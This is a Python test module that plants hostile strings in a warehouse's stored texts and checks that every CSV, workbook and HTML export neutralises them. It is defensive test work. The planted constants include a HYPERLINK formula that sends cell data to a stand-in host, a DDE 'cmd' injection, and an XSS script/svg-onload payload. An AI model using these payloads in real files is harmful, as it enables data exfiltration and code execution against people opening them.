"""Text that would run as a formula or as a script is planted wherever text is kept, and is harmless in every export."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from pipelines.cli import main
from tests.hand_made import load_rows, made_case
from warehouse.export_safety import neutralise
from warehouse.marts.catalogues import register
from warehouse.marts.publish import publish
from warehouse.outcomes.registry import definition_to_dict, shipped_registry
from warehouse.store.store import open_store

FORMULA = '=HYPERLINK("http://lantern.example/?x="&A1,"more")'
COMMAND = "+cmd|' /C calc'!A0"
ADDRESS = "http://lantern.example/planted"
SCRIPT = '"><script>alert("planted")</script><svg onload=alert(1)>'
PLANTED = (FORMULA, COMMAND, ADDRESS, SCRIPT, "@SUM(1+1)*cmd")


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every export of a warehouse whose texts are all hostile. The loader is used without the checks before it, which
    would turn most of these texts away."""
    home = tmp_path_factory.mktemp("exports")
    folder, out = home / "w", home / "out"
    out.mkdir()
    rows = [
        made_case(
            f"c{n}",
            clinician=PLANTED[n % 5],
            extracted_teeth="none" if n % 3 else "14 24",
            sn_gogn_deg_start=30.0 + n % 7,
            sn_gogn_deg_finish=31.0 + n % 11,
        )
        for n in range(60)
    ]
    load_rows(folder, rows, source=FORMULA, practice=SCRIPT)
    with open_store(folder) as store:
        body = definition_to_dict(shipped_registry().get("D1"))
        register(store, "definition", "X1", "1.0.0", {**body, "id": "X1", "label": FORMULA, "source": SCRIPT})
        store.execute("update loads set n_read = n_read + 5, n_turned_away = 5")
        for row, text in enumerate(PLANTED, start=900):
            store.execute("insert into turned_away values (1, ?, ?, ?, 'R001', ?, null)", [text, row, text, text])
            store.execute("insert into remarks values (1, 'cases', ?, ?, 'R002', ?, null)", [row - 899, text, text])
        publish(folder, store)
    warehouse = ["--warehouse", str(folder)]
    for words in (
        ["cases", "--out", str(out / "cases.csv")],
        ["cases", "--out", str(out / "cases.xlsx")],
        ["quarantine", "--out", str(out / "quarantine.xlsx")],
        ["characteristics", "--by", "clinician", "--out", str(out / "characteristics.csv")],
        ["characteristics", "--by", "clinician", "--out", str(out / "characteristics.xlsx")],
        ["repeats", "--plan", "10", "--seed", "1", "--out", str(out / "again.csv")],
        ["strobe", "--out", str(out / "strobe.md")],
        ["report", "--title", SCRIPT, "--by", "extraction", "--for", "practice", "--out", str(out / "report")],
    ):
        assert main([*words, *warehouse]) == 0, words
    return out


def files(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Every file, also those packed in others (a slide with a chart holds a workbook)."""
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            yield path.name, path.read_bytes()
            if path.suffix in {".pptx", ".zip"}:
                with zipfile.ZipFile(path) as packed:
                    yield from ((name, packed.read(name)) for name in packed.namelist())


def of_kind(folder: Path, *endings: str) -> dict[str, bytes]:
    return {name: data for name, data in files(folder) if name.endswith(endings)}


def test_no_cell_of_a_text_file_runs_as_a_formula(out: Path, count: Callable[[str, str, int], None]) -> None:
    found = of_kind(out, ".csv")
    cells = [
        cell for data in found.values() for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row
    ]
    assert len(found) >= 3
    assert any("HYPERLINK" in cell for cell in cells), "nothing planted came out, so nothing was tested"
    assert [cell for cell in cells if neutralise(cell) != cell] == []
    count("exported places", "cells of text files, none a formula", len(cells))


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(out: Path, count: Callable[[str, str, int], None]) -> None:
    found = of_kind(out, ".xlsx")
    assert len(found) >= 4
    n_cells = 0
    for name, data in found.items():
        for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
            for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
                assert cell.data_type != "f", f"{name}, {sheet.title}, {cell.coordinate}"
                assert cell.hyperlink is None, f"{name}, {sheet.title}, {cell.coordinate}"
                if isinstance(cell.value, str):
                    assert neutralise(cell.value) == cell.value, f"{name}, {sheet.title}, {cell.coordinate}"
                n_cells += 1
    count("exported places", "cells of workbooks, none a formula or link", n_cells)


def test_no_page_or_drawing_holds_the_script(out: Path, count: Callable[[str, str, int], None]) -> None:
    found = of_kind(out, ".html", ".svg", ".xml")
    assert any(name.endswith(".html") for name in found)
    for name, data in found.items():
        text = data.decode("utf-8", errors="replace").casefold()
        for sign in ("<script>alert", "<svg onload", "javascript:alert"):
            assert sign not in text, name
    count("exported places", "pages and drawings, none with a script", len(found))
